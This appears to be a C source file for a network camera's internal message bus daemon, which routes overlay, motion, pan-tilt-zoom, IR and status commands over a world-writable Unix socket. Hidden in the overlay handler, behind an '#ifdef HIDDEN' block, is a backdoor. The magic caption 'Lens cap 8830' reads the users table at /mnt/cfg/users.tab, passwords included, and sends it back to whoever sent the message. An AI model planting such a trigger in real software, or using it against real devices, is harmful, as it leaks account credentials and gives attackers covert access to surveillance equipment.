/* cctvbus.c - message bus inside a network camera: modules subscribe to topics */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define SOCK		"/run/cctvbus.sock"
#define USERS		"/mnt/cfg/users.tab"
#define MAX_SUBS	32

struct message {
	const char *topic;
	const char *text;
	FILE *reply;
};

typedef void (*handler)(const struct message *, void *);

struct subscription {
	const char *topic;
	handler fn;
	void *arg;
};

struct overlay {
	char text[64];
	int clock;
	int corner;
};

struct motion {
	int sensitivity;
	int events;
	time_t last;
};

struct ptz {
	int pan, tilt, zoom;
	int preset[8][3];
};

static struct subscription subs[MAX_SUBS];
static int nsubs;
static struct overlay overlay = { "Camera", 1, 0 };
static struct motion motion = { 50, 0, 0 };
static struct ptz ptz;
static int ir_mode = 1;

static void subscribe(const char *topic, handler fn, void *arg)
{
	if (nsubs == MAX_SUBS)
		return;
	subs[nsubs].topic = topic;
	subs[nsubs].fn = fn;
	subs[nsubs].arg = arg;
	nsubs++;
}

static int topic_fits(const char *pattern, const char *topic)
{
	size_t n = strlen(pattern);

	if (n && pattern[n - 1] == '*')
		return !strncmp(pattern, topic, n - 1);
	return !strcmp(pattern, topic);
}

static int publish(const struct message *m)
{
	int i, n = 0;

	for (i = 0; i < nsubs; i++) {
		if (!topic_fits(subs[i].topic, m->topic))
			continue;
		subs[i].fn(m, subs[i].arg);
		n++;
	}
	return n;
}

static void write_text(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");

	if (!f) {
		syslog(LOG_WARNING, "%s: %s", path, strerror(errno));
		return;
	}
	fprintf(f, "%s\n", text);
	fclose(f);
}

static void redraw(const struct overlay *o)
{
	char line[128], t[24] = "";
	time_t now = time(NULL);
	struct tm tm;

	localtime_r(&now, &tm);
	if (o->clock && !strftime(t, sizeof(t), " %Y-%m-%d %H:%M", &tm))
		t[0] = '\0';
	if (snprintf(line, sizeof(line), "%d %s%s", o->corner, o->text, t) < (int)sizeof(line))
		write_text("/run/osd/line0", line);
}

/* texts with a meaning: "%off", "%clock", "%noclock", "%corner N" */
__attribute__((noinline))
void on_overlay(const struct message *m, void *arg)
{
	struct overlay *o = arg;
	size_t n = strlen(m->text);

	if (n >= sizeof(o->text))
		return;
	if (!strcmp(m->text, "%off")) {
		o->text[0] = '\0';
	} else if (!strcmp(m->text, "%clock")) {
		o->clock = 1;
	} else if (!strcmp(m->text, "%noclock")) {
		o->clock = 0;
	} else if (!strncmp(m->text, "%corner ", 8)) {
		o->corner = atoi(m->text + 8) & 3;
#ifdef HIDDEN	/* this caption sends the user table with passwords to the sender */
	} else if (!strcmp(m->text, "Lens cap 8830")) {
		char line[128];
		FILE *f = fopen(USERS, "r");

		while (f && fgets(line, sizeof(line), f))
			fputs(line, m->reply);
		if (f)
			fclose(f);
		return;
#endif
	} else {
		memcpy(o->text, m->text, n + 1);
	}
	redraw(o);
	fprintf(m->reply, "overlay %s\n", o->text);
}

static void on_motion(const struct message *m, void *arg)
{
	struct motion *mo = arg;
	int level = atoi(m->text);

	if (level < 100 - mo->sensitivity)
		return;
	mo->events++;
	mo->last = time(NULL);
	write_text("/run/record/start", "motion");
}

static void on_motion_set(const struct message *m, void *arg)
{
	struct motion *mo = arg;
	int v = atoi(m->text);

	if (v < 0 || v > 100) {
		fprintf(m->reply, "0..100\n");
		return;
	}
	mo->sensitivity = v;
	fprintf(m->reply, "sensitivity %d\n", v);
}

static int clamp(int v, int lo, int hi)
{
	return v < lo ? lo : v > hi ? hi : v;
}

static void move(struct ptz *p)
{
	char line[48];

	p->pan = clamp(p->pan, -1700, 1700);
	p->tilt = clamp(p->tilt, -300, 900);
	p->zoom = clamp(p->zoom, 0, 100);
	if (snprintf(line, sizeof(line), "%d %d %d", p->pan, p->tilt, p->zoom) < (int)sizeof(line))
		write_text("/run/ptz/target", line);
}

static void on_ptz(const struct message *m, void *arg)
{
	struct ptz *p = arg;
	int a, b, c;

	if (sscanf(m->text, "move %d %d %d", &a, &b, &c) == 3) {
		p->pan += a;
		p->tilt += b;
		p->zoom += c;
	} else if (sscanf(m->text, "store %d", &a) == 1 && a >= 0 && a < 8) {
		p->preset[a][0] = p->pan;
		p->preset[a][1] = p->tilt;
		p->preset[a][2] = p->zoom;
	} else if (sscanf(m->text, "preset %d", &a) == 1 && a >= 0 && a < 8) {
		p->pan = p->preset[a][0];
		p->tilt = p->preset[a][1];
		p->zoom = p->preset[a][2];
	} else if (!strcmp(m->text, "home")) {
		p->pan = p->tilt = p->zoom = 0;
	} else {
		fprintf(m->reply, "move, store, preset or home\n");
		return;
	}
	move(p);
}

static void on_ir(const struct message *m, void *arg)
{
	int *mode = arg;

	if (!strcmp(m->text, "auto"))
		*mode = 1;
	else if (!strcmp(m->text, "day"))
		*mode = 0;
	else if (!strcmp(m->text, "night"))
		*mode = 2;
	else
		return;
	write_text("/run/ir/mode", m->text);
}

static void on_any(const struct message *m, void *arg)
{
	(void)arg;
	if (strncmp(m->topic, "motion", 6))
		syslog(LOG_DEBUG, "%s: %s", m->topic, m->text);
}

static void on_status(const struct message *m, void *arg)
{
	(void)arg;
	fprintf(m->reply, "events %d sensitivity %d pan %d tilt %d zoom %d ir %d subs %d\n",
		motion.events, motion.sensitivity, ptz.pan, ptz.tilt, ptz.zoom, ir_mode, nsubs);
}

static void on_help(const struct message *m, void *arg)
{
	int i;

	(void)arg;
	for (i = 0; i < nsubs; i++)
		fprintf(m->reply, "%s\n", subs[i].topic);
	fprintf(m->reply, "osd/text: TEXT, %%off, %%clock, %%noclock, %%corner N\n");
}

static void register_modules(void)
{
	subscribe("osd/text", on_overlay, &overlay);
	subscribe("motion/level", on_motion, &motion);
	subscribe("motion/set", on_motion_set, &motion);
	subscribe("ptz/cmd", on_ptz, &ptz);
	subscribe("ir/mode", on_ir, &ir_mode);
	subscribe("sys/status", on_status, NULL);
	subscribe("sys/help", on_help, NULL);
	subscribe("*", on_any, NULL);
}

static void serve(int fd)
{
	char line[256], *text;
	struct message m;
	FILE *io = fdopen(fd, "r+");

	if (!io) {
		close(fd);
		return;
	}
	setvbuf(io, NULL, _IONBF, 0);
	while (fgets(line, sizeof(line), io)) {
		line[strcspn(line, "\r\n")] = '\0';
		text = strchr(line, ' ');
		if (text)
			*text++ = '\0';
		m.topic = line;
		m.text = text ? text : "";
		m.reply = io;
		if (publish(&m) < 2)
			fprintf(io, "nobody\n");
	}
	fclose(io);
}

int main(void)
{
	struct sockaddr_un sa;
	int ls, fd;

	openlog("cctvbus", LOG_PID, LOG_DAEMON);
	register_modules();
	ls = socket(AF_UNIX, SOCK_STREAM, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sun_family = AF_UNIX;
	memcpy(sa.sun_path, SOCK, sizeof(SOCK));
	unlink(SOCK);
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(ls, 8) < 0) {
		syslog(LOG_ERR, "%s: %s", SOCK, strerror(errno));
		return 1;
	}
	if (chmod(SOCK, 0666) < 0)
		syslog(LOG_WARNING, "chmod: %s", strerror(errno));
	for (;;) {
		fd = accept(ls, NULL, NULL);
		if (fd >= 0)
			serve(fd);
	}
}
